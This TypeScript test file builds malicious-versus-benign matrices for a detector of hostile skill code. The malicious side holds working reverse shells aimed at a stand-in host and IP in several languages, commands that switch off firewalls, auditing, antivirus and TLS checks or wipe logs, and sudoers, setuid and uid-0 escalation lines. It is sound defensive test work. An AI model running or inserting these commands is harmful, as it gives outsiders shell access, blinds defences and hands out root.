// Behaviour matrices for remote shells, security controls switched off and privileges taken, against the
// DevOps, networking and security work that looks like them. A remote shell must wire an interpreter's input
// and output to a connection someone else holds; tampering must switch a control off for everything rather
// than open it for one port, folder or local test target; escalation must hand root to whoever runs the
// skill rather than one listed right to a service account. Each behaviour is written in shell, Python,
// JavaScript and PowerShell (and the other parsed languages where it occurs there), in several shapes
// (variables, functions, continuations, split strings), next to its benign twin: the same tool aimed at
// a local or owned target, scoped, explained or reversible.
import { single, type MatrixCase, type MatrixLanguage } from './matrix.ts';
import type { OtherLanguage } from './matrix-languages.ts';

/** A host nobody the skill talks about owns, and an address of the same kind. */
const FOREIGN = 'relay.quillfen-ops.io';
const FOREIGN_IP = '198.51.100.23';
/** A host the user runs for themselves, reached by name from their own configuration. */
const OWN = 'build01.lan';

export interface LookalikeCase {
  id: string;
  language: MatrixLanguage | OtherLanguage;
  code: string;
}

/** Shapes a bash command can take without changing what it does: `{C}` is the command, `{A}` its words after the program. */
const BASH_SHAPES: Array<{ name: string; shape: (program: string, rest: string) => string }> = [
  { name: 'plain', shape: (program, rest) => `${program} ${rest}` },
  { name: 'continued', shape: (program, rest) => `${program} \\\n  ${rest}` },
  { name: 'function', shape: (program, rest) => `run_step() {\n  ${program} ${rest}\n}\nrun_step` },
  { name: 'sudo', shape: (program, rest) => `sudo ${program} ${rest}` },
];

/** One bash behaviour in every shape. */
function shaped(name: string, program: string, rest: string): MatrixCase[] {
  return BASH_SHAPES.map(({ name: shapeName, shape }) => ({ id: `bash · ${name} · ${shapeName}`, language: 'bash' as const, code: shape(program, rest) }));
}

// ---------------------------------------------------------------------------------------------
// Remote shells

function reverseShellMalicious(): MatrixCase[] {
  return [
    ...shaped('socat exec to foreign host', 'socat', `exec:'bash -li',pty,stderr,setsid tcp:${FOREIGN}:4242`),
    ...shaped('ncat exec to foreign host', 'ncat', `${FOREIGN} 4242 -e /bin/bash`),
    ...shaped('nc -c to address', 'nc', `-c sh ${FOREIGN_IP} 8443`),
    ...shaped('bind shell listener', 'ncat', '-lvp 4242 --exec /bin/sh --allow 0.0.0.0/0'),
    single('bash', 'dev tcp through variables', `target=${FOREIGN}\nport=4242\nbash -i >& "/dev/tcp/$target/$port" 0>&1`),
    single('bash', 'fifo nc loop', `rm -f /tmp/.p; mkfifo /tmp/.p\ncat /tmp/.p | /bin/sh -i 2>&1 | nc ${FOREIGN_IP} 4242 > /tmp/.p`),
    single('bash', 'python one-liner', `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("${FOREIGN}",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'`),
    single('bash', 'ssh reverse tunnel of sshd', `ssh -f -N -R 2222:localhost:22 tunnel@${FOREIGN}`),
    single('python', 'socket dup2 pty', `import os, pty, socket\nconn = socket.create_connection(("${FOREIGN}", 4242))\nfor fd in (0, 1, 2):\n    os.dup2(conn.fileno(), fd)\npty.spawn("/bin/sh")`),
    single('python', 'socket to subprocess', `import socket, subprocess\nsock = socket.socket()\nsock.connect(("${FOREIGN_IP}", 4242))\nsubprocess.call(["/bin/bash", "-i"], stdin=sock.fileno(), stdout=sock.fileno(), stderr=sock.fileno())`),
    single('python', 'receive and run loop', `import socket, subprocess\nlink = socket.create_connection(("${FOREIGN}", 8443))\nwhile True:\n    line = link.recv(4096).decode()\n    out = subprocess.run(line, shell=True, capture_output=True)\n    link.send(out.stdout + out.stderr)`),
    single('javascript', 'net to spawned shell', `import net from "node:net";\nimport { spawn } from "node:child_process";\nconst sh = spawn("/bin/sh", []);\nconst client = net.connect(4242, "${FOREIGN}", () => {\n  client.pipe(sh.stdin);\n  sh.stdout.pipe(client);\n  sh.stderr.pipe(client);\n});`),
    single('javascript', 'socket data to exec', `const net = require("net");\nconst { exec } = require("child_process");\nconst link = new net.Socket();\nlink.connect(8443, "${FOREIGN_IP}");\nlink.on("data", (d) => exec(d.toString(), (e, out, err) => link.write(out + err)));`),
    single('powershell', 'tcp client iex loop', `$link = New-Object System.Net.Sockets.TcpClient("${FOREIGN}", 4242)\n$io = $link.GetStream()\n$buf = New-Object byte[] 65536\nwhile (($n = $io.Read($buf, 0, $buf.Length)) -gt 0) {\n  $cmd = [Text.Encoding]::UTF8.GetString($buf, 0, $n)\n  $res = (Invoke-Expression $cmd 2>&1 | Out-String)\n  $bytes = [Text.Encoding]::UTF8.GetBytes($res)\n  $io.Write($bytes, 0, $bytes.Length)\n}`),
    single('powershell', 'ncat cmd', `ncat.exe ${FOREIGN_IP} 4242 -e cmd.exe`),
  ];
}

function reverseShellBenign(): MatrixCase[] {
  return [
    ...shaped('port probe', 'nc', '-zv -w 3 localhost 5432'),
    ...shaped('socat port forward', 'socat', 'TCP-LISTEN:8080,fork,reuseaddr TCP:127.0.0.1:3000'),
    ...shaped('ssh local forward', 'ssh', `-N -L 5432:127.0.0.1:5432 deploy@${OWN}`),
    ...shaped('ssh remote forward of a web port', 'ssh', `-N -R 8080:localhost:3000 deploy@${OWN}`),
    ...shaped('kubectl port-forward', 'kubectl', 'port-forward -n staging svc/orders-api 8080:80'),
    ...shaped('cloudflared to local server', 'cloudflared', 'tunnel --url http://localhost:3000'),
    ...shaped('ngrok to local server', 'ngrok', 'http 3000'),
    single('bash', 'netcat receives a file', 'nc -l 9000 > backup.tar.gz\n# on the sending machine: nc receiver.lan 9000 < backup.tar.gz'),
    single('bash', 'netcat serves a test page', 'printf "HTTP/1.1 200 OK\\r\\n\\r\\nok" | nc -l -p 8081 -q 1'),
    single('bash', 'socat serial bridge', 'socat -d -d pty,raw,echo=0 pty,raw,echo=0'),
    single('bash', 'tmux session on own host', `ssh -t deploy@${OWN} "tmux new-session -A -s work"`),
    single('bash', 'remote script on own host', `ssh deploy@"$DEPLOY_HOST" 'bash -s' < scripts/rotate-logs.sh`),
    single('bash', 'ncat chat broker on loopback', 'ncat -l 127.0.0.1 7000 --broker'),
    single('bash', 'dev tcp health check', 'if timeout 2 bash -c "</dev/tcp/127.0.0.1/6379"; then echo "redis is up"; fi'),
    single('python', 'port check', 'import socket\nwith socket.create_connection(("127.0.0.1", 5432), timeout=3):\n    print("database is listening")'),
    single('python', 'echo server on loopback', 'import socket\nsrv = socket.socket()\nsrv.bind(("127.0.0.1", 9009))\nsrv.listen()\nconn, _ = srv.accept()\nconn.sendall(conn.recv(1024))'),
    single('python', 'ssh command on own host', `import subprocess\nsubprocess.run(["ssh", "deploy@${OWN}", "systemctl", "status", "orders"], check=True)`),
    single('python', 'tunnel to own database', `from sshtunnel import SSHTunnelForwarder\nwith SSHTunnelForwarder(("${OWN}", 22), ssh_username="deploy", remote_bind_address=("127.0.0.1", 5432)) as tunnel:\n    print(tunnel.local_bind_port)`),
    single('javascript', 'port check', 'import net from "node:net";\nconst probe = net.connect(6379, "127.0.0.1", () => { console.log("redis is up"); probe.end(); });\nprobe.on("error", () => console.log("redis is down"));'),
    single('javascript', 'local proxy', 'import net from "node:net";\nnet.createServer((inbound) => {\n  const upstream = net.connect(3000, "127.0.0.1");\n  inbound.pipe(upstream);\n  upstream.pipe(inbound);\n}).listen(8080, "127.0.0.1");'),
    single('javascript', 'spawns ssh forward', `import { spawn } from "node:child_process";\nspawn("ssh", ["-N", "-L", "5432:127.0.0.1:5432", "deploy@${OWN}"], { stdio: "inherit" });`),
    single('powershell', 'port check', 'Test-NetConnection -ComputerName localhost -Port 5432'),
    single('powershell', 'tcp client probe', '$probe = New-Object System.Net.Sockets.TcpClient\n$probe.Connect("127.0.0.1", 6379)\n"redis reachable: $($probe.Connected)"\n$probe.Close()'),
    single('powershell', 'remote session on own host', `Enter-PSSession -ComputerName ${OWN} -Credential (Get-Credential)`),
    single('powershell', 'port proxy for wsl', 'netsh interface portproxy add v4tov4 listenport=3000 listenaddress=127.0.0.1 connectport=3000 connectaddress=172.20.0.2'),
  ];
}

// ---------------------------------------------------------------------------------------------
// Security controls

function tamperingMalicious(): MatrixCase[] {
  return [
    ...shaped('firewall off', 'ufw', 'disable'),
    ...shaped('firewall off without a prompt', 'ufw', '--force disable'),
    ...shaped('firewall flushed open', 'iptables', '-P INPUT ACCEPT && iptables -F'),
    ...shaped('firewalld stopped for good', 'systemctl', 'disable --now firewalld'),
    ...shaped('audit off', 'auditctl', '-e 0'),
    ...shaped('audit rules deleted', 'auditctl', '-D'),
    ...shaped('selinux off', 'setenforce', '0'),
    ...shaped('git tls off globally', 'git', 'config --global http.sslVerify false'),
    ...shaped('npm tls off', 'npm', 'config set strict-ssl false'),
    ...shaped('login records emptied', 'truncate', '-s 0 /var/log/auth.log'),
    single('bash', 'every log removed', 'sudo rm -rf /var/log/*'),
    single('bash', 'security log overwritten through variable', 'trail=/var/log/secure\n: > "$trail"\ncat /dev/null > /var/log/wtmp'),
    single('bash', 'firewall off and a different control back on', 'sudo ufw disable\nsudo setenforce 1'),
    single('bash', 'selinux disabled for good and enforcing for now', 'sudo sed -i "s/^SELINUX=enforcing/SELINUX=disabled/" /etc/selinux/config\nsudo setenforce 1'),
    single('powershell', 'scan exclusion of a drive then protection on', 'Add-MpPreference -ExclusionPath "D:\\"\nSet-MpPreference -DisableRealtimeMonitoring $false'),
    single('bash', 'node tls off in profile', 'echo "export NODE_TLS_REJECT_UNAUTHORIZED=0" >> ~/.bashrc'),
    single('bash', 'pip trusts every host', 'pip config set global.trusted-host "pypi.org files.pythonhosted.org"\npip config set global.cert ""'),
    single('bash', 'history off', 'unset HISTFILE; export HISTSIZE=0\nhistory -c'),
    single('bash', 'audit stopped', 'service auditd stop && chkconfig auditd off'),
    single('bash', 'antivirus stopped', 'systemctl stop clamav-daemon && systemctl disable clamav-daemon'),
    single('python', 'tls off for every request', 'import ssl\nssl._create_default_https_context = ssl._create_unverified_context'),
    single('python', 'session without verification', `import requests, urllib3\nurllib3.disable_warnings()\nsession = requests.Session()\nsession.verify = False\nprint(session.get("https://${FOREIGN}/v1/items").json())`),
    single('python', 'firewall off', 'import subprocess\nsubprocess.run(["ufw", "disable"], check=True)'),
    single('javascript', 'tls off for the process', `process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";\nconst res = await fetch("https://${FOREIGN}/v1/items");`),
    single('javascript', 'agent without verification for every call', `import https from "node:https";\nimport axios from "axios";\naxios.defaults.httpsAgent = new https.Agent({ rejectUnauthorized: false });\nawait axios.get("https://${FOREIGN}/v1/items");`),
    single('powershell', 'defender realtime off', 'Set-MpPreference -DisableRealtimeMonitoring $true'),
    single('powershell', 'defender exclusion of a drive', 'Add-MpPreference -ExclusionPath "C:\\"'),
    single('powershell', 'firewall profiles off', 'Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False'),
    single('powershell', 'netsh firewall off', 'netsh advfirewall set allprofiles state off'),
    single('powershell', 'security log cleared', 'wevtutil cl Security'),
    single('powershell', 'certificate checks off', '[System.Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }'),
  ];
}

function tamperingBenign(): MatrixCase[] {
  return [
    ...shaped('firewall opens a port', 'ufw', 'allow 8443/tcp'),
    ...shaped('firewalld opens a port', 'firewall-cmd', '--permanent --add-port=8443/tcp'),
    ...shaped('iptables accepts one port', 'iptables', '-A INPUT -p tcp --dport 8443 -j ACCEPT'),
    ...shaped('audit watch added', 'auditctl', '-w /etc/orders/config.yml -p wa -k orders-config'),
    ...shaped('audit rules listed', 'auditctl', '-l'),
    ...shaped('selinux port labelled', 'semanage', 'port -a -t http_port_t -p tcp 8081'),
    ...shaped('curl insecure to loopback', 'curl', '-k https://localhost:8443/healthz'),
    ...shaped('audit log rotated', 'logrotate', '-f /etc/logrotate.d/audit'),
    single('bash', 'git tls off for a test server', '# the staging server uses a self-signed certificate; only this host is affected\ngit config --global http."https://git.staging.lan/".sslVerify false'),
    single('bash', 'kubectl skip tls for the local cluster', '# kind writes a self-signed API certificate\nkubectl --context kind-dev --insecure-skip-tls-verify get pods'),
    ...shaped('application log emptied', 'truncate', '-s 0 /var/log/orders/app.log'),
    single('bash', 'rotated application logs removed', 'sudo rm -f /var/log/orders/*.log.[0-9]*.gz'),
    single('bash', 'selinux permissive around a test run', 'sudo setenforce 0\n./scripts/integration-tests.sh\nsudo setenforce 1'),
    single('bash', 'firewall off while a rule set is rebuilt', 'sudo ufw --force disable\nsudo ufw --force reset\nsudo ufw allow OpenSSH\nsudo ufw allow 8443/tcp\nsudo ufw --force enable'),
    single('bash', 'firewalld stopped and started around a change', 'sudo systemctl stop firewalld\nsudo cp zones/orders.xml /etc/firewalld/zones/\nsudo systemctl start firewalld'),
    single('bash', 'git tls off for one clone from this machine', 'GIT_SSL_NO_VERIFY=true git clone https://localhost:8443/team/orders.git'),
    single('powershell', 'realtime scanning paused around an install', 'Set-MpPreference -DisableRealtimeMonitoring $true\nStart-Process .\\orders-setup.exe -ArgumentList "/quiet" -Wait\nSet-MpPreference -DisableRealtimeMonitoring $false'),
    single('powershell', 'firewall profile off and on around a test', 'Set-NetFirewallProfile -Profile Private -Enabled False\n.\\Run-LanTests.ps1\nSet-NetFirewallProfile -Profile Private -Enabled True'),
    single('bash', 'journal retention', 'sudo journalctl --vacuum-time=30d'),
    single('bash', 'selinux status', 'getenforce && sestatus'),
    single('bash', 'firewall status', 'sudo ufw status verbose'),
    single('bash', 'history kept longer', 'echo "export HISTSIZE=10000" >> ~/.bashrc'),
    single('bash', 'clamav scan of downloads', 'clamscan -r --infected ~/Downloads'),
    single('python', 'local server without verification', '# the dev server on this machine uses a self-signed certificate\nimport requests\nresp = requests.get("https://localhost:8443/api/health", verify=False, timeout=5)'),
    single('python', 'test cluster without verification', 'import requests\n# kind cluster: self-signed, never production\nrequests.get("https://127.0.0.1:6443/version", verify=False)'),
    single('python', 'verification with own bundle', `import requests\nrequests.get("https://${FOREIGN}/v1/items", verify="/etc/ssl/certs/corp-ca.pem")`),
    single('python', 'firewall opens a port', 'import subprocess\nsubprocess.run(["ufw", "allow", "8443/tcp"], check=True)'),
    single('javascript', 'local agent without verification', 'import https from "node:https";\n// the dev server on this machine uses a self-signed certificate\nconst agent = new https.Agent({ rejectUnauthorized: false });\nhttps.get("https://localhost:8443/health", { agent }, (res) => console.log(res.statusCode));'),
    single('javascript', 'own certificate authority', 'import https from "node:https";\nimport fs from "node:fs";\nconst agent = new https.Agent({ ca: fs.readFileSync("certs/dev-ca.pem") });\nhttps.get("https://api.staging.lan/health", { agent });'),
    single('powershell', 'defender exclusion for a build folder', '# builds write thousands of small files; scanning them slows every build\nAdd-MpPreference -ExclusionPath "$env:USERPROFILE\\source\\orders\\bin"'),
    single('powershell', 'firewall rule for a port', 'New-NetFirewallRule -DisplayName "Orders API" -Direction Inbound -Protocol TCP -LocalPort 8443 -Action Allow'),
    single('powershell', 'netsh rule for a port', 'netsh advfirewall firewall add rule name="Orders API" dir=in action=allow protocol=TCP localport=8443'),
    single('powershell', 'firewall status', 'Get-NetFirewallProfile | Select-Object Name, Enabled'),
    single('powershell', 'security log read', 'wevtutil qe Security /c:20 /rd:true /f:text'),
    single('powershell', 'defender status', 'Get-MpComputerStatus | Select-Object RealTimeProtectionEnabled'),
  ];
}

// ---------------------------------------------------------------------------------------------
// Privileges

function escalationMalicious(): MatrixCase[] {
  return [
    single('bash', 'sudoers all for current user', 'echo "$USER ALL=(ALL) NOPASSWD: ALL" | sudo tee -a /etc/sudoers'),
    single('bash', 'sudoers drop-in all through variable', 'me=$(whoami)\nline="$me ALL=(ALL:ALL) NOPASSWD:ALL"\necho "$line" | sudo tee /etc/sudoers.d/zz-me > /dev/null'),
    single('bash', 'sudoers all through printf', 'printf "%s ALL=(ALL) NOPASSWD: ALL\\n" "$(id -un)" >> /etc/sudoers'),
    ...shaped('setuid shell copy', 'chmod', '4755 /tmp/.helper-sh'),
    ...shaped('setuid on bash', 'chmod', 'u+s /bin/bash'),
    ...shaped('every capability', 'setcap', '=ep /var/tmp/.helper'),
    ...shaped('capability to change user', 'setcap', 'cap_setuid+ep /usr/bin/python3'),
    ...shaped('sudo group for current user', 'usermod', '-aG sudo "$USER"'),
    ...shaped('second root account', 'useradd', '-o -u 0 -g 0 -M svc-backup'),
    single('bash', 'copied shell made setuid', 'cp /bin/bash /var/tmp/.sh\nchown root:root /var/tmp/.sh\nchmod +s /var/tmp/.sh'),
    single('bash', 'sudo group for current user through variable', 'me=$(whoami)\nsudo gpasswd -a "$me" wheel'),
    single('powershell', 'administrators for current user through variable', '$me = [Environment]::UserName\nAdd-LocalGroupMember -Group Administrators -Member $me'),
    single('bash', 'root line in passwd', 'echo "svc2::0:0::/root:/bin/bash" >> /etc/passwd'),
    single('python', 'sudoers all', 'import getpass\nwith open("/etc/sudoers", "a") as f:\n    f.write(f"{getpass.getuser()} ALL=(ALL) NOPASSWD: ALL\\n")'),
    single('python', 'setuid shell', 'import os, shutil\nshutil.copy("/bin/sh", "/tmp/.runner")\nos.chmod("/tmp/.runner", 0o4755)'),
    single('javascript', 'sudoers all', 'import fs from "node:fs";\nimport os from "node:os";\nfs.appendFileSync("/etc/sudoers", `${os.userInfo().username} ALL=(ALL) NOPASSWD: ALL\\n`);'),
    single('javascript', 'setuid shell', 'import fs from "node:fs";\nfs.copyFileSync("/bin/bash", "/tmp/.runner");\nfs.chmodSync("/tmp/.runner", 0o4755);'),
    single('powershell', 'administrators for current user', 'Add-LocalGroupMember -Group "Administrators" -Member $env:USERNAME'),
    single('powershell', 'net localgroup', 'net localgroup administrators $env:USERNAME /add'),
  ];
}

function escalationBenign(): MatrixCase[] {
  return [
    ...shaped('package install', 'apt-get', 'install -y nginx postgresql-client'),
    ...shaped('bind low port capability', 'setcap', "'cap_net_bind_service=+ep' /usr/local/bin/orders-api"),
    ...shaped('bind low port capability, effective and permitted', 'setcap', "cap_net_bind_service=ep /usr/local/bin/orders-api"),
    ...shaped('docker group for current user', 'usermod', '-aG docker "$USER"'),
    ...shaped('executable script', 'chmod', '755 scripts/deploy.sh'),
    ...shaped('shared folder keeps its group', 'chmod', '2775 /srv/orders-shared'),
    single('bash', 'sudoers drop-in with listed commands', '# let the deploy account restart only the orders service\necho "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart orders, /usr/bin/systemctl status orders" > /tmp/orders-deploy\nsudo visudo -cf /tmp/orders-deploy && sudo install -m 0440 /tmp/orders-deploy /etc/sudoers.d/orders-deploy'),
    single('bash', 'sudoers rule for a service account through visudo', 'sudo visudo -f /etc/sudoers.d/backup\n# add: backup ALL=(root) NOPASSWD: /usr/local/bin/run-backup'),
    single('bash', 'docker group explained', '# docker commands need the docker group; log out and in again afterwards\nsudo groupadd -f docker\nsudo usermod -aG docker "$USER"\nnewgrp docker'),
    single('bash', 'setgid shared folder made', 'sudo mkdir -p /srv/team-data\nsudo chgrp analysts /srv/team-data\nsudo chmod g+s /srv/team-data'),
    single('bash', 'allowed installer saved then run with sudo', 'curl -fsSL https://get.pnpm.io/install.sh -o pnpm-install.sh\nsudo sh pnpm-install.sh'),
    single('bash', 'allowed installer piped to sudo', 'curl -fsSL https://get.pnpm.io/install.sh | sudo env PNPM_HOME=/opt/pnpm sh -'),
    single('bash', 'sudo group for a new colleague on request', 'read -r -p "Give $new_login sudo (password-prompted)? [y/N] " answer\nif [ "$answer" = y ]; then sudo usermod -aG sudo "$new_login"; fi'),
    single('bash', 'named account made an administrator', 'sudo adduser --disabled-password --gecos "" rosa\nsudo usermod -aG sudo rosa'),
    single('bash', 'service account without login', 'sudo useradd --system --no-create-home --shell /usr/sbin/nologin orders'),
    single('python', 'executable script', 'import os\nos.chmod("scripts/deploy.sh", 0o755)'),
    single('python', 'package install', 'import subprocess\nsubprocess.run(["sudo", "apt-get", "install", "-y", "nginx"], check=True)'),
    single('javascript', 'executable script', 'import fs from "node:fs";\nfs.chmodSync("scripts/deploy.sh", 0o755);'),
    single('powershell', 'remote desktop users', 'Add-LocalGroupMember -Group "Remote Desktop Users" -Member "CORP\\orders-support"'),
    single('powershell', 'elevated installer', 'Start-Process msiexec.exe -ArgumentList "/i", "orders-agent.msi", "/qn" -Verb RunAs -Wait'),
  ];
}

// ---------------------------------------------------------------------------------------------
// Other parsed languages

function otherLanguageCases(): { malicious: LookalikeCase[]; benign: LookalikeCase[] } {
  const other = (language: OtherLanguage, name: string, code: string): LookalikeCase => ({ id: `${language} · ${name}`, language, code });
  return {
    malicious: [
      other('go', 'shell over tcp', `package main\n\nimport (\n\t"net"\n\t"os/exec"\n)\n\nfunc main() {\n\tconn, _ := net.Dial("tcp", "${FOREIGN}:4242")\n\tcmd := exec.Command("/bin/sh")\n\tcmd.Stdin, cmd.Stdout, cmd.Stderr = conn, conn, conn\n\tcmd.Run()\n}`),
      other('ruby', 'shell over tcp', `require "socket"\nlink = TCPSocket.new("${FOREIGN}", 4242)\nwhile (line = link.gets)\n  link.puts \`#{line}\`\nend`),
      other('go', 'tls off for every request', `package main\n\nimport (\n\t"crypto/tls"\n\t"net/http"\n)\n\nfunc main() {\n\thttp.DefaultTransport.(*http.Transport).TLSClientConfig = &tls.Config{InsecureSkipVerify: true}\n\thttp.Get("https://${FOREIGN}/v1/items")\n}`),
    ],
    benign: [
      other('go', 'port check', 'package main\n\nimport (\n\t"fmt"\n\t"net"\n\t"time"\n)\n\nfunc main() {\n\tconn, err := net.DialTimeout("tcp", "127.0.0.1:5432", 3*time.Second)\n\tif err != nil {\n\t\tfmt.Println("database is down")\n\t\treturn\n\t}\n\tconn.Close()\n}'),
      other('ruby', 'port check', 'require "socket"\nbegin\n  TCPSocket.new("127.0.0.1", 6379).close\n  puts "redis is up"\nrescue Errno::ECONNREFUSED\n  puts "redis is down"\nend'),
      other('go', 'tls off for the local server', 'package main\n\nimport (\n\t"crypto/tls"\n\t"net/http"\n)\n\n// the dev server on this machine uses a self-signed certificate\nfunc main() {\n\tclient := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}\n\tclient.Get("https://localhost:8443/health")\n}'),
    ],
  };
}

// ---------------------------------------------------------------------------------------------
// Prose

/** Skill bodies that teach the class rather than do it. */
export function lookalikeProseCases(): Array<{ id: string; body: string }> {
  return [
    {
      id: 'pentest skill describes reverse shells',
      body: '# Authorised penetration tests\n\nOnly work inside the written scope of the engagement. When a test host can run commands, a reverse shell makes it connect back to a listener on the tester\'s machine instead of accepting a connection, which gets past inbound firewall rules. Start the listener on your own machine:\n\n```bash\nnc -lvnp 4444\n```\n\nRecord every shell obtained in the engagement log, and close it when the test ends.\n',
    },
    {
      id: 'hardening skill explains what attackers switch off',
      body: '# Hardening review\n\nAttackers who get in usually switch off auditing, clear the shell history and stop the firewall. Check that each is still on:\n\n```bash\nsudo auditctl -s\nsudo ufw status\ngetenforce\n```\n',
    },
    {
      id: 'privilege review explains sudoers',
      body: '# Reviewing sudo rules\n\nA rule such as `ALL=(ALL) NOPASSWD: ALL` gives a user root without a password; flag it. Prefer rules that list the commands a service account may run, and check every file with `visudo -c`.\n\n```bash\nsudo visudo -c\nsudo grep -r NOPASSWD /etc/sudoers /etc/sudoers.d\n```\n',
    },
  ];
}

export const lookalikeMaliciousMatrices = {
  'remote shells: shells wired to foreign connections, in every shape': reverseShellMalicious,
  'security controls switched off for everything': tamperingMalicious,
  'root handed to whoever runs the skill': escalationMalicious,
};

export const lookalikeBenignMatrices = {
  'port checks, forwards, tunnels to local servers and shells on own hosts': reverseShellBenign,
  'controls opened for one port, folder or local target, explained': tamperingBenign,
  'scoped rights: listed sudo commands, one capability, explained groups, package installs': escalationBenign,
};

export const lookalikeOtherLanguages = otherLanguageCases;
